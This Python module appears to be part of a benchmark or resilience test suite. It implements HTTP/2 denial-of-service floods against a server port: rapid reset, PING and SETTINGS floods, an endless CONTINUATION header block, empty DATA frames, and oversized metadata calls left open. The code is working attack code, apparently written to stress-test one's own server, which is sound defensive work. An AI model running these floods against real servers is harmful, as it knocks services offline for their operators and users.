"""Floods a server with frames of HTTP/2."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from bench.attack_wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    Attack,
    Wire,
    frame,
    request_block,
    text,
)


async def _flood(
    attack: Attack, chunk: Callable[[int], bytes], *, start: bytes = b"", connections: int = 4
) -> str:
    """Send chunk after chunk on some connections; open a new one when the server ends one."""
    ended = chunks = 0

    async def run() -> None:
        nonlocal ended, chunks
        while attack.goes_on:
            try:
                wire = await Wire.open(attack.port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            number = 0
            wire.writer.write(start)
            while attack.goes_on and await wire.press(chunk(number)):
                number += 1
            chunks += number
            ended += wire.ended
            wire.writer.transport.abort()

    attack.begin()
    await asyncio.gather(*(run() for _ in range(connections)))
    return f"{chunks * 100:,} frames taken; {ended:,} connections ended by the server"


async def rapid_reset(attack: Attack) -> str:
    """Begin calls and reset each at once."""
    block = request_block("Acquire")
    reset = (8).to_bytes(4)

    def chunk(number: int) -> bytes:
        ids = range(200 * number + 1, 200 * number + 201, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS, each, block) + frame(RESET, 0, each, reset) for each in ids
        )

    return await _flood(attack, chunk)


async def pings(attack: Attack) -> str:
    """Send pings."""
    return await _flood(attack, lambda _: frame(PING, 0, 0, bytes(8)) * 100)


async def settings(attack: Attack) -> str:
    """Send settings."""
    return await _flood(attack, lambda _: frame(SETTINGS, 0, 0) * 100)


async def continuations(attack: Attack) -> str:
    """Send a header block that never ends."""
    piece = b"\0" + text(b"x") + text(b"y" * 100)
    start = frame(HEADERS, 0, 1, request_block("Acquire"))
    return await _flood(attack, lambda _: frame(CONTINUATION, 0, 1, piece) * 100, start=start)


async def empty_data(attack: Attack) -> str:
    """Send data frames without data on an open Session."""
    start = frame(HEADERS, END_HEADERS, 1, request_block("Session"))
    return await _flood(attack, lambda _: frame(DATA, 0, 1) * 100, start=start)


async def large_metadata(attack: Attack) -> str:
    """Begin calls with 15 KB of metadata each, and never end them."""
    more = tuple((f"x-{number}".encode(), b"y" * 3_000) for number in range(5))
    block = request_block("Acquire", *more)

    def call(stream_id: int) -> bytes:
        pieces = [block[first : first + 16_000] for first in range(0, len(block), 16_000)]
        frames = frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream_id, pieces[0])
        for number, piece in enumerate(pieces[1:], 2):
            frames += frame(CONTINUATION, END_HEADERS if number == len(pieces) else 0, stream_id, piece)
        return frames

    attack.begin()
    wires = [await Wire.open(attack.port) for _ in range(4)]
    begun = 0
    for number in range(5_000):
        for wire in wires:
            begun += await wire.press(call(2 * number + 1)) if number % 10 == 0 else not wire.ended
            if number % 10:
                wire.writer.write(call(2 * number + 1))
        if not attack.goes_on:
            break
    await attack.hold()
    return f"{begun:,} calls begun; {sum(not each.ended for each in wires)} of 4 connections stayed open"
